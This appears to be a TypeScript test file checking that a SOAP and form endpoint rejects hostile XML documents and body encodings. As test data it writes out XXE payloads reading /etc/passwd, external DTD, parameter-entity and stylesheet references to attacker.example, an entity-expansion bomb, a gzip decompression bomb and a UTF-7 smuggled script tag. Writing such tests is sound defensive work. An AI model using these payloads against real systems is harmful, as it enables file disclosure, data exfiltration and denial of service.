/** Hostile documents and encodings in both versions of SOAP and in forms are rejected without harm. */
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { envelope, httpMessage, soapMessage, type Version, wrapper } from '../support/requests';
import { ask, ENDPOINT, RESULT } from './ask-hostile';

const CALL = wrapper('SelectEvents', '<month>5</month><year>2031</year>');
const VERSIONS: readonly Version[] = ['1.1', '1.2'];
const whole = (version: Version) => envelope(version, CALL);
const inBody = (content: string) => (version: Version) => envelope(version, content);
const before = (prolog: string) => (version: Version) => prolog + whole(version);
const times = (count: number, write: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => write(at)).join('');

const BOMB = `<!DOCTYPE a [<!ENTITY a0 "ha">${times(12, (at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`)}]>`;

/** Documents and the status of their answers; 200 is a result. */
const DOCUMENTS: Readonly<Record<string, readonly [write: (version: Version) => string, status: number]>> = {
  'a bomb of entities': [(version) => BOMB + whole(version).replace('>5<', '>&a12;<'), 400],
  'a DTD': [before('<!DOCTYPE s:Envelope>'), 400],
  'a DTD from elsewhere': [before('<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">'), 400],
  'an entity that is a file': [
    (version) =>
      before('<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]>')(version).replace('>5<', '>&f;<'),
    400,
  ],
  'a parameter entity': [before('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/">%p;]>'), 400],
  'an entity that nobody declared': [inBody(CALL.replace('>5<', '>&nope;<')), 400],
  'an inclusion': [
    inBody(
      CALL.replace(
        '<month>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><month>',
      ),
    ),
    200,
  ],
  'an inclusion for a value': [
    inBody(
      CALL.replace(
        '>5<',
        '><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><',
      ),
    ),
    400,
  ],
  'a style sheet': [before('<?xml-stylesheet href="http://attacker.example/a.xsl"?>'), 200],
  'a schema from elsewhere': [
    inBody(
      CALL.replace(
        '<month',
        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a http://attacker.example/"/><month',
      ),
    ),
    200,
  ],
  'ten thousand levels': [inBody('<a>'.repeat(10_000)), 500],
  'nine thousand levels that end': [inBody('<a>'.repeat(9_000) + '</a>'.repeat(9_000) + CALL), 500],
  'six thousand attributes': [inBody(`<a ${times(6_000, (at) => `a${at}="" `)}/>${CALL}`), 400],
  'four thousand namespaces': [inBody(`<a ${times(4_000, (at) => `xmlns:a${at}="u" `)}/>${CALL}`), 400],
  'a name of 60 KB': [inBody(CALL.replace('<month>', `<${'n'.repeat(60_000)}/><month>`)), 200],
  'an attribute of 60 KB': [inBody(CALL.replace('<month>', `<a b="${'v'.repeat(60_000)}"/><month>`)), 200],
  'a value of 60 KB': [inBody(CALL.replace('>5<', `>${'5'.repeat(60_000)}<`)), 500],
  'a comment of 60 KB': [inBody(`<!--${' '.repeat(60_000)}-->${CALL}`), 200],
  'an attribute twice': [inBody(CALL.replace('<month>', '<month a="" a="">')), 400],
  'a prefix that nobody declared': [inBody(CALL.replaceAll('month>', 'm:month>')), 400],
  NUL: [inBody(CALL.replace('>5<', '>5\0<')), 400],
  'NUL as a reference': [inBody(CALL.replace('>5<', '>5&#0;<')), 400],
  'half a pair of surrogates': [inBody(CALL.replace('>5<', '>5&#xD800;<')), 400],
  'a second root': [(version) => whole(version) + whole(version), 400],
  'nothing but an end': [() => '</s:Envelope>', 400],
};

describe.each(Object.entries(DOCUMENTS))('%s', (_what, [write, status]) => {
  test.each(VERSIONS)(`is ${status === 200 ? 'no obstacle' : 'refused'} in SOAP %s`, async (version) => {
    const { answer, text, isCalled } = await ask(soapMessage(version, 'SelectEvents', write(version)));
    expect(answer.status).toBe(status);
    expect(isCalled).toBe(status === 200);
    if (status === 200) expect(text).toContain(RESULT);
  });
});

const utf32 = (text: string) => {
  const bytes = Buffer.alloc(text.length * 4);
  for (let at = 0; at < text.length; at++) bytes.writeUInt32LE(text.charCodeAt(at), 4 * at);
  return bytes;
};
const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** Encodings that hide markup or grow: only the charset is decoded. */
const ENCODINGS: Readonly<
  Record<
    string,
    readonly [
      encode: (text: string) => Buffer,
      headers: Readonly<Record<string, string>>,
      statuses: readonly number[],
    ]
  >
> = {
  gzip: [(text) => gzipSync(text), { 'Content-Encoding': 'gzip' }, [400, 500]],
  br: [(text) => brotliCompressSync(text), { 'Content-Encoding': 'br' }, [400, 500]],
  'gzip that grows a thousandfold': [
    () => gzipSync(Buffer.alloc(10_000_000)),
    { 'Content-Encoding': 'gzip' },
    [400, 500],
  ],
  'gzip that is none': [(text) => Buffer.from(text), { 'Content-Encoding': 'gzip' }, [200]],
  'overlong UTF-8': [(text) => latin1(text.replaceAll('<', '\xc0\xbc')), {}, [400]],
  'UTF-8 that breaks off': [(text) => latin1(text.replace('>5<', '>5\xe2\x82<')), {}, [400, 500]],
  'surrogates in UTF-8': [(text) => latin1(text.replace('>5<', '>5\xed\xa0\x80<')), {}, [400, 500]],
  'UTF-32 without a word': [utf32, {}, [400]],
};

describe.each(Object.entries(ENCODINGS))('a body in %s', (_what, [encode, headers, statuses]) => {
  test.each(VERSIONS)('is read as the bytes that it is in SOAP %s', async (version) => {
    const body = encode(whole(version));
    const { answer, isCalled } = await ask(soapMessage(version, 'SelectEvents', body, headers));
    expect(statuses).toContain(answer.status);
    expect(isCalled).toBe(answer.status === 200);
    expect(answer.headers.has('content-encoding')).toBe(false);
  });

  test('is read as the bytes that it is in a form', async () => {
    const body = encode('month=>5<&year=2031');
    const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
    const { answer } = await ask(
      httpMessage(`POST ${ENDPOINT}/SelectEvents HTTP/1.1`, { ...form, ...headers }, body),
    );
    expect(answer.status).toBe(500);
  });
});

test.each(['UTF-7', 'utf-16', 'utf-32', 'gb18030', 'nope', '"', 'x'.repeat(5_000)])(
  'the charset %s of a body that is not in it hides nothing',
  async (charset) => {
    for (const version of VERSIONS) {
      const media = version === '1.1' ? 'text/xml' : 'application/soap+xml';
      const { answer, text } = await ask(
        soapMessage(version, 'SelectEvents', envelope(version, CALL.replace('>5<', '>+ADw-script+AD4-<')), {
          'Content-Type': `${media}; charset=${charset}`,
        }),
      );
      expect(answer.status).toBeGreaterThanOrEqual(400);
      expect(text).not.toContain('<script');
    }
  },
);
